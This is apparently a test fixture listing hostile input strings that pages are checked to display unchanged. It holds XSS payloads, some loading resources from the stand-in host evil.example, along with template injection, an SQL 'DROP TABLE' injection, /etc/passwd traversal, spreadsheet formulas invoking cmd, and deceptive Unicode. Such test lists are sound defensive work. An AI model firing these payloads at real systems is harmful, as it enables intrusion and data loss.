/**
 * Texts that people, including attackers, may enter. Each page must show hostile texts unchanged. Executed code calls
 * `ran()`, which exists only in a test with a page. A resource that a hostile text loads sends a request to
 * evil.example.
 */
const RUN = 'ran()';
const EVIL = 'http://evil.example';

const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}/x.js></script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${EVIL}/pixel.png>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror='${RUN}'>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<embed src="${EVIL}/x.swf">`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<style>@import '${EVIL}/x.css'; *{display:none!important}</style>`,
  `</textarea><style>*{display:none}</style>`,
  `</title><script>${RUN}</script>`,
  `</option></select><script>${RUN}</script>`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<form action=${EVIL}><button>Sign in again</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<x contenteditable onblur=${RUN} tabindex=1 autofocus>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
];

const CODE = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//%0aalert(1)`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{7*7}<%= 7*7 %>{{7*7}}`,
  `{% raw %}{{ ${RUN} }}{% endraw %}`,
  `[click](javascript:${RUN})`,
  `![x](${EVIL}/pixel.png)`,
  `<${EVIL}>`,
  `__proto__`,
  `constructor.prototype.polluted`,
  `';${RUN};//`,
  `"-${RUN}-"`,
  `\\"-${RUN}//`,
  `' OR 1=1; DROP TABLE end_user;--`,
  `../../../../etc/passwd`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  String.raw`\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A//</stYle/</titLe/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>`,
];

const SHEET = [
  `=HYPERLINK("${EVIL}","x")`,
  `+1+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
];

const LETTERS = [
  '\u202Egnp.exe\u202C', // shown backwards
  '\u2066\u2067\u2068unclosed',
  'اسم عربي with English 123 inside',
  'a\u200B\u200B\u200Bb\uFEFFc', // invisible characters
  '\u0007\u0008\u001B[31mred\u001B[0m',
  'l\u0336i\u0336n\u0336e\u0336 Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034D'.repeat(
    2,
  ),
  '👩‍❤️‍💋‍👩 🏳️‍🌈 👨‍👩‍👧‍👦 🇶🇦',
  'W'.repeat(190),
  '𝕬𝖘𝖍𝖆 𐍈 你好 हिन्दी ไทย',
  '‮‏‎‪mixed‬ marks',
  'line one\nline two\n\n\nline five',
  'ﷺﷺﷺ﷽﷽﷽',
];

export const HOSTILE: readonly string[] = [...MARKUP, ...CODE, ...SHEET, ...LETTERS];
